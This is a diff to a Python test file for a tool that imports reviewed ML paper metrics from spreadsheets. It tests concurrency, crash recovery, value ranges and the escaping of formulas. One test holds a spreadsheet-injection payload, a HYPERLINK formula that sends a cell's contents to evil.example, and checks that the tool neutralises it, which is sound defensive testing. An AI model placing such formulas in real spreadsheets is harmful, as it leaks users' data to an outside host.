@@ -9,6 +9,7 @@ import sqlite3
 import subprocess
 import sys
 import textwrap
+import time
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -507,10 +508,14 @@ def test_failure_before_the_journal_applies_nothing(db: sqlite3.Connection, home
     review.import_files(db, home, [write_sheet(tmp_path / "first.csv", [row_for(FLOPS, decision="accept")])])
     before = snapshot(home.annotations_dir)
 
-    def no_journal(target: Path, text: str, encoding: str = "utf-8") -> None:
-        raise OSError(28, "No space left on device")
+    real_open = open
 
-    monkeypatch.setattr(ann, "write_text_atomic", no_journal)
+    def full_disk_for_the_journal(file: object, *args: object, **kwargs: object) -> object:
+        if ann.JOURNAL_FILE in str(file):
+            raise OSError(28, "No space left on device")
+        return real_open(file, *args, **kwargs)  # type: ignore[call-overload]
+
+    monkeypatch.setattr("builtins.open", full_disk_for_the_journal)
     with pytest.raises(ReviewError, match=r"\(No space left on device\); nothing was applied"):
         review.import_files(db, home, [three_file_import(tmp_path)])
     monkeypatch.undo()
@@ -675,3 +680,270 @@ def test_pdf_link_points_at_a_pdf_extracted_from_outside_the_home(home: Home, tm
     replace_candidates(conn, "1512.03385", 1, [c], extraction={"status": "ok", "rule_version": "t",
                                                                 "source_path": str(outside)})
     assert review.pdf_link(conn, home, c) == outside.resolve().as_uri() + "#page=4"
+
+
+# ---------------------------------------------------------------- one annotations folder shared by several homes
+
+
+def _home_sharing(tmp_path: Path, name: str, annotations: Path) -> Home:
+    """A home of its own (own store, same candidates) whose annotations folder is ``annotations``."""
+    home = resolve_home(tmp_path / name, annotations)
+    conn = connect(home.db_path)
+    extract(conn, RESNET, 1, resnet_candidates(), "imagenet")
+    extract(conn, DENSENET, 1, densenet_candidates(), "cifar10")
+    conn.close()
+    return home
+
+
+_IMPORT_AFTER_GO = textwrap.dedent("""
+    import sys, time
+    from pathlib import Path
+    from flopmine import review
+    from flopmine.config import resolve_home
+    from flopmine.store import connect
+    root, annotations, sheet, go = sys.argv[1:5]
+    home = resolve_home(root, annotations)
+    conn = connect(home.db_path)
+    review.sync(conn, home)
+    while not Path(go).exists():
+        time.sleep(0.001)
+    report = review.import_files(conn, home, [sheet]).report
+    print(len(report.applied))
+""")
+
+
+def test_two_homes_importing_into_one_annotations_folder_lose_nothing(tmp_path: Path) -> None:
+    """Real processes, one per home, released at the same instant, several times over."""
+    shared = tmp_path / "shared-annotations"
+    homes = [_home_sharing(tmp_path, "home-a", shared), _home_sharing(tmp_path, "home-b", shared)]
+    sheets = [write_sheet(tmp_path / "a.csv", [row_for(c, decision="accept") for c in (ERR1, FLOPS, EPOCHS)]),
+              write_sheet(tmp_path / "b.csv", [row_for(c, decision="reject") for c in (ERR2, HW, C10_ERR)])]
+    for attempt in range(6):
+        if shared.exists():
+            for p in sorted(shared.rglob("*"), reverse=True):
+                p.rmdir() if p.is_dir() else p.unlink()
+        go = tmp_path / f"go-{attempt}"
+        procs = [subprocess.Popen([sys.executable, "-c", _IMPORT_AFTER_GO, str(h.root), str(shared), str(s), str(go)],
+                                  cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+                 for h, s in zip(homes, sheets, strict=True)]
+        time.sleep(1.5)  # both have imported flopmine and wait for the go
+        go.touch()
+        outs = [p.communicate(timeout=120) for p in procs]
+        assert [p.returncode for p in procs] == [0, 0], outs
+        assert [o.strip() for o, _ in outs] == ["3", "3"]
+        ledger = read_csv(shared / ann.LEDGER_FILE)
+        assert sorted(r["decision"] for r in ledger) == ["accept"] * 3 + ["reject"] * 3, f"attempt {attempt}"
+
+
+def test_recovery_from_another_home_waits_for_a_running_import(tmp_path: Path) -> None:
+    """`review status` in home B while home A's import has staged its files must not roll them back."""
+    import threading
+
+    shared = tmp_path / "shared-annotations"
+    home_a, home_b = _home_sharing(tmp_path, "home-a", shared), _home_sharing(tmp_path, "home-b", shared)
+    sheet = three_file_import(tmp_path)
+    staged, go = tmp_path / "staged", tmp_path / "go"
+    script = textwrap.dedent(f"""
+        import time
+        from pathlib import Path
+        from flopmine import review
+        from flopmine.review import annotations as ann
+        from flopmine.config import resolve_home
+        from flopmine.store import connect
+        real_fsync_dir = ann._fsync_dir
+        def pause_once_staged(directory):
+            if not Path({str(staged)!r}).exists():
+                Path({str(staged)!r}).touch()
+                while not Path({str(go)!r}).exists():
+                    time.sleep(0.01)
+            real_fsync_dir(directory)
+        ann._fsync_dir = pause_once_staged
+        home = resolve_home({str(home_a.root)!r}, {str(shared)!r})
+        print(len(review.import_files(connect(home.db_path), home, [{str(sheet)!r}]).report.applied))
+    """)
+    proc = subprocess.Popen([sys.executable, "-c", script], cwd=REPO, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+    try:
+        deadline = time.monotonic() + 60
+        while not staged.exists():
+            assert proc.poll() is None and time.monotonic() < deadline, proc.stderr and proc.stderr.read()
+            time.sleep(0.02)
+        temporary = sorted(shared.rglob(f"*{ann.TMP_SUFFIX}"))
+        assert len(temporary) == 4  # three fact files and the ledger, staged
+        seen: list[int] = []
+
+        def status_of_home_b() -> None:
+            conn_b = connect(home_b.db_path)
+            try:
+                seen.append(review.status(conn_b, home_b).decided)
+            finally:
+                conn_b.close()
+
+        status_b = threading.Thread(target=status_of_home_b)
+        status_b.start()
+        time.sleep(1.0)
+        assert all(p.exists() for p in temporary), "home B rolled back a running import"
+        assert seen == []  # home B waits for the lock
+        go.touch()
+        out, err = proc.communicate(timeout=60)
+        status_b.join(timeout=60)
+    finally:
+        go.touch()
+        proc.kill()
+    assert (proc.returncode, out.strip()) == (0, "3"), err
+    assert seen == [3]
+    assert len(read_csv(shared / ann.LEDGER_FILE)) == 3
+    assert not list(shared.rglob(f"*{ann.TMP_SUFFIX}"))
+    assert not (home_a.root / ".review.lock").exists() and not (shared / ".review.lock").exists()
+
+
+def test_a_kill_while_writing_the_journal_leaves_no_temporary_file(db: sqlite3.Connection, home: Home,
+                                                                   tmp_path: Path) -> None:
+    """A real process dies just before the journal's rename: the next command removes every file it left."""
+    review.import_files(db, home, [write_sheet(tmp_path / "first.csv", [row_for(FLOPS, decision="accept")])])
+    before = snapshot(home.annotations_dir)
+    sheet = three_file_import(tmp_path)
+    script = textwrap.dedent(f"""
+        import os
+        real_replace = os.replace
+        def die_before_the_journal(src, dst, *args, **kwargs):
+            if str(dst).endswith(".review-journal.json"):
+                os._exit(9)
+            return real_replace(src, dst, *args, **kwargs)
+        os.replace = die_before_the_journal
+        from flopmine import review
+        from flopmine.config import resolve_home
+        from flopmine.store import connect
+        home = resolve_home({str(home.root)!r})
+        review.import_files(connect(home.db_path), home, [{str(sheet)!r}])
+    """)
+    proc = subprocess.run([sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True, timeout=60)
+    assert proc.returncode == 9, proc.stderr
+    left = set(snapshot(home.annotations_dir)) - set(before)
+    assert any(".review-journal.json." in name for name in left)  # the journal's temporary file
+    assert review.status(db, home).decided == 1  # rolled back: the import never committed
+    assert snapshot(home.annotations_dir) == before
+    # a journal temporary file in the old naming (``write_text_atomic``'s) goes too
+    (home.annotations_dir / f".{ann.JOURNAL_FILE}.k2j3h4.part").write_text("{")
+    assert review.recover(home.annotations_dir) is not None
+    assert snapshot(home.annotations_dir) == before
+
+
+# ---------------------------------------------------------------- plausible values, units, decimal commas, formulas
+
+
+@pytest.mark.parametrize("corrected", ["1e300", "5e16"])
+def test_an_implausible_correction_needs_force_and_is_flagged(db: sqlite3.Connection, home: Home, tmp_path: Path,
+                                                              corrected: str) -> None:
+    sheet = write_sheet(tmp_path / "big.csv", [row_for(FLOPS, decision="correct", corrected_value=corrected)])
+    assert problems_of(db, home, sheet) == [
+        f"{sheet}:2: corrected_value: implausible: {float(corrected)!r} is outside the plausible range of flops "
+        "(1e4–1e15 FLOPs); check it, or write 'force' in the force column to keep it"]
+    forced = write_sheet(tmp_path / "forced.csv", [row_for(FLOPS, decision="correct", corrected_value=corrected,
+                                                           force="Force")])
+    report = review.import_files(db, home, [forced]).report
+    assert report is not None and len(report.applied) == 1
+    (fact,) = review.load_facts(home.annotations_dir)
+    assert (fact.value, fact.flags) == (float(corrected), "forced")
+    assert read_csv(home.annotations_dir / "imagenet.csv")[0]["flags"] == "forced"
+    assert read_csv(home.annotations_dir / ann.LEDGER_FILE)[0]["force"] == "force"
+    # the flag survives a rebuilt cache and a re-import changes nothing
+    assert review.import_files(db, home, [forced]).report.applied == ()  # type: ignore[union-attr]
+    db.execute("DELETE FROM review_meta")
+    assert review.sync(db, home, force=True)[0].forced
+
+
+def test_implausible_values_of_each_kind_of_row(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
+    implausible_candidate = Candidate(RESNET, 1, "hardware_count", 512000.0, unit="devices", page=4)
+    extract(db, RESNET, 1, [*resnet_candidates(), implausible_candidate], "imagenet")
+    sheet = write_sheet(tmp_path / "rows.csv", [
+        row_for(implausible_candidate, decision="accept"),
+        {"decision": "add", "arxiv_id": RESNET, "field": "training_time_hours", "value": "20000", "page": "4"},
+        {"decision": "add", "arxiv_id": RESNET, "field": "params", "value": "60e6", "page": "4", "force": "yes"},
+    ])
+    assert problems_of(db, home, sheet) == [
+        f"{sheet}:2: value: implausible: 512000 is outside the plausible range of hardware_count (1–1e5 devices); "
+        "check it, or write 'force' in the force column to keep it",
+        f"{sheet}:3: value: implausible: 20000 is outside the plausible range of training_time_hours "
+        "(0.01–17520 hours); check it, or write 'force' in the force column to keep it",
+        f"{sheet}:4: force: write 'force' to keep a value outside its plausible range, or leave it empty "
+        "(the cell has 'yes')",
+    ]
+
+
+def test_an_added_fact_needs_a_unit_of_its_field(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
+    add = {"decision": "add", "arxiv_id": RESNET, "benchmark": "imagenet", "model": "ResNet-50", "page": "5"}
+    sheet = write_sheet(tmp_path / "units.csv", [
+        {**add, "field": "flops", "value": "4.1e9", "unit": "%"},
+        {**add, "field": "flops", "value": "4.1", "unit": "GFLOPs"},
+        {**add, "field": "hardware", "value": "V100", "unit": "GPUs"},
+    ])
+    assert problems_of(db, home, sheet) == [
+        f"{sheet}:2: unit: not a unit of flops: '%'; write the value in FLOPs and the unit as FLOPs, FLOP, "
+        "or leave it empty",
+        f"{sheet}:3: unit: not a unit of flops: 'GFLOPs'; write the value in FLOPs and the unit as FLOPs, FLOP, "
+        "or leave it empty",
+        f"{sheet}:3: value: implausible: 4.1 is outside the plausible range of flops (1e4–1e15 FLOPs); check it, "
+        "or write 'force' in the force column to keep it",
+        f"{sheet}:4: unit: not a unit of hardware: 'GPUs'; hardware has no unit; leave it empty",
+    ]
+    ok = write_sheet(tmp_path / "ok.csv", [{**add, "field": "flops", "value": "4.1e9", "unit": "flop"},
+                                           {**add, "field": "hardware_count", "value": "8", "unit": "gpus"}])
+    review.import_files(db, home, [ok])
+    assert sorted((f.field, f.unit) for f in review.load_facts(home.annotations_dir)) == [
+        ("flops", "FLOPs"), ("hardware_count", "devices")]
+
+
+def test_the_plausible_ranges_are_documented_in_one_table() -> None:
+    from flopmine.review.decision import plausible_ranges_table
+
+    docs = (REPO / "docs" / "review.md").read_text(encoding="utf-8")
+    assert plausible_ranges_table() in docs
+    assert "| `flops` | 1e4–1e15 | FLOPs (FLOP) |" in plausible_ranges_table()
+    assert "| `training_time_hours` | 0.01–17520 | hours (h, hrs) |" in plausible_ranges_table()
+
+
+def test_a_file_saved_with_decimal_commas_says_so_once(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
+    """A German-locale spreadsheet: `;` separators and `42,7`-style numbers in every numeric cell."""
+    review.export(db, home, tmp_path / "out")
+    rows = read_csv(tmp_path / "out" / "imagenet.csv")
+    for r in rows:
+        if r["field"] == "top1_err":
+            r["value"] = r["value"].replace(".", ",")
+        r["decision"] = "accept"
+    buf = io.StringIO()
+    w = csv.DictWriter(buf, fieldnames=list(rows[0]), delimiter=";", lineterminator="\r\n")
+    w.writeheader()
+    w.writerows(rows)
+    sheet = tmp_path / "de.csv"
+    sheet.write_text(buf.getvalue(), encoding="utf-8-sig")
+    lines = [i for i, r in enumerate(rows, 2) if r["field"] == "top1_err"]
+    assert problems_of(db, home, sheet) == [
+        f"{sheet}:{lines[0]}: file: the file uses decimal commas (value '21,43' for 21.43, and 1 more row(s)); "
+        "save it with '.' as the decimal separator (LibreOffice: Tools > Options > Language Settings > Languages, "
+        "Locale setting English (USA); Excel: File > Options > Advanced, untick 'Use system separators', "
+        "decimal separator '.'), then import again"]
+
+
+def test_annotation_files_store_formulas_neutralised(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
+    """A note typed as a formula never runs when someone opens annotations/ in a spreadsheet; readers get it back."""
+    from flopmine.analysis.build import read_annotations
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"see table")'
+    sheet = write_sheet(tmp_path / "f.csv", [
+        row_for(FLOPS, decision="accept", note=formula),
+        {"decision": "add", "arxiv_id": RESNET, "benchmark": "imagenet", "model": "-SE", "field": "top1_err",
+         "value": "20.1", "page": "7", "note": "@risk"},
+    ])
+    review.import_files(db, home, [sheet])
+    for name in ("imagenet.csv", ann.LEDGER_FILE):
+        raw = (home.annotations_dir / name).read_text(encoding="utf-8")
+        cells = [c for row in csv.reader(io.StringIO(raw)) for c in row]
+        assert "'" + formula in cells and "'-SE" in cells and "'@risk" in cells, name
+        assert not any(c.startswith(("=", "@", "+")) or (c.startswith("-") and c != "-") for c in cells
+                       if not c.replace(".", "").replace("-", "").replace("e", "").isdigit()), name
+    by_model = {f.model: f for f in review.load_facts(home.annotations_dir)}
+    assert by_model["ResNet-152"].note == formula and by_model["-SE"].note == "@risk"
+    facts, _ = read_annotations(home.annotations_dir)  # what the analysis build reads
+    assert {f.model: f.note for f in facts} == {"ResNet-152": formula, "-SE": "@risk"}
+    assert review.import_files(db, home, [sheet]).report.applied == ()  # type: ignore[union-attr]
